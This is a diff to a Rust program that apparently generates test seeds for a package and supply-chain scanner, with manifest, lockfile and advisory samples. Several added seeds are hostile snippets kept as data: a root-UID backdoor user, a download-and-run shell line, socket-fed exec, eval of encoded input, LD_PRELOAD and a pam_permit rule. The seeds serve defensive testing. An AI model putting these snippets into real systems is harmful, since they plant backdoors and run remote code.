@@ -34,8 +34,7 @@ fn main() -> std::io::Result<()> {
     advisories()
 }
 
-/// Sources of which something runs when they are loaded. The first byte chooses their names: blanks and digits are names of
-/// Python, JavaScript and pages among others.
+/// Sources of which something runs when they are loaded, and manifests. The first byte chooses the name, and is no part of them.
 fn sources() -> std::io::Result<()> {
     const SOURCES: &[&str] = &[
         "import subprocess as s, os\ndef f(a=(1,\n2)):\n    \"\"\"https://a.invalid\"\"\"\n    s.run(['x'])  # y\nif __name__ == '__main__':\n    pass\nf()\n",
@@ -44,11 +43,19 @@ fn sources() -> std::io::Result<()> {
         "fn main() { Command::new(\"sh\"); } // https://a.invalid\n",
         "{\"main\": \"a.js\", \"bin\": {\"b\": \"c.js\"}, \"dependencies\": {\"d\": \"npm:e@1\"}}",
         "[console_scripts]\na = b:c\n[pytest11]\nd = e\n",
-        "#!/bin/sh\nuseradd -o -u 0 x\ndpkg-divert --add /usr/bin/ssh\n",
+        "#!/bin/sh\nuseradd -o -u 0 x\ndpkg-divert --add /usr/bin/ssh\ncurl -o x https://a.invalid && sh x\n",
+        "class A(B):\n    def __init__(self):\n        self.f()\n    def f(self):\n        exec(s.recv(9))\na = A()\nA.f()\n",
+        "class A extends B { constructor() { eval(atob(x)) } static f() { } }\nnew A(); A.f()\n",
+        "Name: a\nPackage: b\nVersion: 1.2\nRequires-Dist: c>=1\n\n",
+        "<dict><key>CFBundleIdentifier</key><string>a</string><key>CFBundleShortVersionString</key><string>1</string></dict>",
+        "<package><metadata><id>a</id><version>1.2</version></metadata></package>",
+        "{\"name\": \"a\", \"version\": \"1.2\", \"rootfs\": {}, \"config\": {\"Cmd\": [\"a\"], \"User\": \"\", \"Env\": [\"LD_PRELOAD=x\"]}}",
+        "[package]\nname = \"a\"\nversion = \"1.2\"\n[dependencies.b]\ngit = \"https://a.invalid\"\n",
+        "auth sufficient pam_permit.so\nACTION==\"add\", RUN+=\"/x\"\nurl: https://a.invalid/\n",
     ];
     for (number, source) in SOURCES.iter().enumerate() {
-        for first in 0..16_u8 {
-            let bytes = [&[b'0' + first], source.as_bytes()].concat();
+        for first in 0..32_u8 {
+            let bytes = [&[first], source.as_bytes()].concat();
             fs::write(folder("content")?.join(format!("source-{number}-{first}")), bytes)?;
         }
     }
@@ -87,14 +94,29 @@ fn locks() -> std::io::Result<()> {
     let python = "[project]\ndependencies=[\"a[x]>=1,<2\"]\n[tool.poetry.dependencies]\nb=\"^1\"\n";
     let packages = "[[package]]\nname=\"a\"\nversion=\"1.0\"\n";
     let seeds: [(u8, &str, &str, &str); 8] = [
-        (0, "npm", npm, r#"{"packages":{"":{"dependencies":{"a":"^1.0.0"}},"node_modules/a":{"version":"1.0.0"}}}"#),
+        (
+            0,
+            "npm",
+            npm,
+            r#"{"packages":{"":{"dependencies":{"a":"^1.0.0"}},"node_modules/a":{"version":"1.0.0"}}}"#,
+        ),
         (2, "yarn", npm, "\"a@npm:^1.0.0\":\n  version: 1.0.0\n"),
-        (3, "pnpm", npm, "importers:\n  .:\n    dependencies:\n      a:\n        specifier: ^1.0.0\n        version: 1.0.0(b@1)\n"),
+        (
+            3,
+            "pnpm",
+            npm,
+            "importers:\n  .:\n    dependencies:\n      a:\n        specifier: ^1.0.0\n        version: 1.0.0(b@1)\n",
+        ),
         (4, "cargo", "[dependencies]\na=\"1\"\n", "[[package]]\nname=\"a\"\nversion=\"1.0.0\"\n"),
         (5, "go", "module m\nrequire (\n a.test/x v1.0.0\n)\n", "a.test/x v1.0.0 h1:x=\n"),
         (6, "python", python, packages),
         (9, "ruby", "gem 'a', '~> 1.0'\n", "GEM\n  specs:\n    a (1.0)\n\nDEPENDENCIES\n  a (~> 1.0)\n"),
-        (11, "php", r#"{"require":{"a/b":"^1.0 || ~2.1"}}"#, r#"{"packages":[{"name":"a/b","version":"v1.0.0"}]}"#),
+        (
+            11,
+            "php",
+            r#"{"require":{"a/b":"^1.0 || ~2.1"}}"#,
+            r#"{"packages":[{"name":"a/b","version":"v1.0.0"}]}"#,
+        ),
     ];
     for (number, name, manifest, lock) in seeds {
         let bytes = [&[number], manifest.as_bytes(), b"\0", lock.as_bytes()].concat();
@@ -127,7 +149,10 @@ fn advisories() -> std::io::Result<()> {
             r#"{"payloadType":"application/json","payload":"eyJAY29udGV4dCI6Im9wZW52ZXgifQ==","signatures":[{"sig":"AAEC"}]}"#,
         ),
         ("list", "2026-01-02T00:00:00Z,A-2\n2026-01-01T00:00:00Z,A-1\n"),
-        ("kev", r#"{"catalogVersion":"1","vulnerabilities":[{"cveID":"CVE-2021-44228","dateAdded":"2021-12-10"}]}"#),
+        (
+            "kev",
+            r#"{"catalogVersion":"1","vulnerabilities":[{"cveID":"CVE-2021-44228","dateAdded":"2021-12-10"}]}"#,
+        ),
         ("epss", "#m\ncve,epss,percentile\nCVE-2021-44228,0.94,0.99\n"),
         ("vers", "vers:npm/>=1.0.0|<2.0.0"),
         ("purl", "pkg:npm/%40s/a@1.0.0?vers=x#y"),
